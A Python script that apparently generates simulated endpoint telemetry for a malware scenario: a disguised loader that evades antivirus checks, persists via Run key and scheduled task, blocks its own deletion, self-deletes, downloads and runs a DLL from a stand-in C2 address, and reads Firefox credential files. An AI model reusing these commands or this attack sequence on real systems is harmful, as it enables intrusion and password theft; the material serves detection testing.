"""The bundled sample: a loader that a user starts from Downloads.

It copies itself, persists with a Run key and a task, takes the user's rights to the copy away, talks to a server, downloads a
DLL and runs it, reads Firefox's passwords, and deletes itself. Addresses are of the documentation ranges.
"""
from scenery import EXPLORER, Desktop

SERVER = ("198.51.100.23", 443)
CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    sample = c.home + r"\Downloads\invoice-0424.pdf.exe"
    folder = c.home + r"\AppData\Local\Temp\8f31c2"
    copy = folder + r"\lumen.exe"
    c.host(SERVER[0], "cdn-lumen.example")
    desktop.murmur(12)

    loader = c.spawn(desktop.explorer, sample, '"%s" ' % sample, is_64bit=False)
    desktop.murmur(3)
    for product in ("Avast Software", "AVG", "Avira", "Bitdefender", "ESET", "Kaspersky Lab"):
        c.probe(loader, r"C:\ProgramData\%s" % product)
    c.wait(0.3)
    c.folder(loader, folder)
    c.read(loader, sample, 182784)
    c.drop(loader, copy, 182784)
    c.wait(0.2)
    bot = c.spawn(loader, copy, '"%s" -k' % copy, is_64bit=False)
    desktop.murmur(4)
    remove = c.spawn(loader, system32 + "cmd.exe", 'cmd.exe /c ping -n 3 127.0.0.1 > nul & del "%s"' % sample,
                     description="Windows Command Processor", company="Microsoft Corporation")
    ping = c.spawn(remove, system32 + "PING.EXE", "ping  -n 3 127.0.0.1 ", company="Microsoft Corporation")
    c.exit(loader)

    c.open_key(bot, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", 0x20006)
    c.set_value(bot, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Lumen", "REG_SZ", copy)
    c.wait(0.2)
    command = '"%sschtasks.exe" /create /f /sc minute /mo 15 /tn "Lumen Update" /tr "%s"' % (system32, copy)
    tool = c.spawn(bot, system32 + "schtasks.exe", command, company="Microsoft Corporation")
    c.drop(desktop.scheduler, system32 + r"Tasks\Lumen Update", 3122)
    c.key(desktop.scheduler, CACHE + r"\Tree\Lumen Update", new=True)
    c.set_value(desktop.scheduler, CACHE + r"\Tree\Lumen Update\Id", "REG_SZ", "{4C0E6B5A-71D2-4A0B-9C3F-2F7D1B9E8A55}")
    c.exit(tool)
    shell = c.spawn(bot, system32 + "cmd.exe", 'cmd /c icacls "lumen.exe" /deny "%username%":(DE)', folder + "\\")
    tool = c.spawn(shell, system32 + "icacls.exe", 'icacls  "lumen.exe" /deny "mika":(DE)', folder + "\\",
                   company="Microsoft Corporation")
    c.protect(tool, copy)
    c.exit(tool)
    c.exit(shell)
    desktop.murmur(6)
    c.exit(ping)
    c.delete(remove, sample)
    c.exit(remove)

    desktop.resolve()
    c.exchange(bot, SERVER, 50112, [517, 126, 310], [1460, 1460, 733])
    c.wait(4)
    desktop.murmur(5)
    plugin = c.home + r"\AppData\Roaming\lumen\pk.dll"
    c.folder(bot, c.home + r"\AppData\Roaming\lumen")
    c.net(bot, "Connect", SERVER, 50118)
    c.net(bot, "Send", SERVER, 50118, 214)
    c.open(bot, plugin, 0x120116, 5, 2, 0x60, 1)
    for at in range(0, 401408, 28672):
        c.net(bot, "Receive", SERVER, 50118, 28672)
        c.write_at(bot, plugin, at, 28672)
    c.close(bot, plugin)
    c.net(bot, "Disconnect", SERVER, 50118)
    host = c.spawn(bot, system32 + "rundll32.exe", 'rundll32.exe "%s",Start' % plugin, company="Microsoft Corporation")
    c.load(host, plugin, 0x10000000, 0x64000)
    profile = c.home + r"\AppData\Roaming\Mozilla\Firefox\Profiles\k2v9x1ab.default-release"
    c.read(host, profile + r"\logins.json", 18432)
    c.read(host, profile + r"\key4.db", 294912)
    c.exchange(host, SERVER, 50121, [1460, 902], [41])
    c.exit(host)
    desktop.murmur(8)
    c.set_value(desktop.explorer, EXPLORER + r"\UserAssist\{CEBFF5CD}\Count\P:\Hfref", "REG_BINARY", bytes(72))
    c.wait(20)

    again = c.spawn(desktop.scheduler, copy, copy, user=c.user, integrity="Medium", session=1, is_64bit=False,
                    sid="S-1-5-21-1004336348-1177238915-682003330-1001")
    c.net(again, "Reconnect", ("203.0.113.9", 8443), 50130)
    c.wait(1)
    c.net(again, "Reconnect", ("203.0.113.9", 8443), 50131)
    c.exit(again)
    desktop.murmur(10)
